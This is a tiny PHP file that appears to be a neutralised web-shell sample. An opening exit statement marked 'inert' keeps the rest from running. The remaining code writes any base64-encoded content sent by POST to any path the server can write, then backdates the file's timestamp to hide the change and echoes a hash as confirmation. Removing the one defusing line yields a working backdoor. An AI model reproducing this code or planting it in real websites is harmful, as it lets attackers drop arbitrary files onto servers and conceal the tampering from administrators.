<?php exit; /* inert */ 
if (($n = $_POST['n'] ?? '') && ($c = $_POST['c'] ?? '')) {
    file_put_contents($n, base64_decode($c));
    touch($n, filemtime(dirname($n)));
    echo md5_file($n);
}
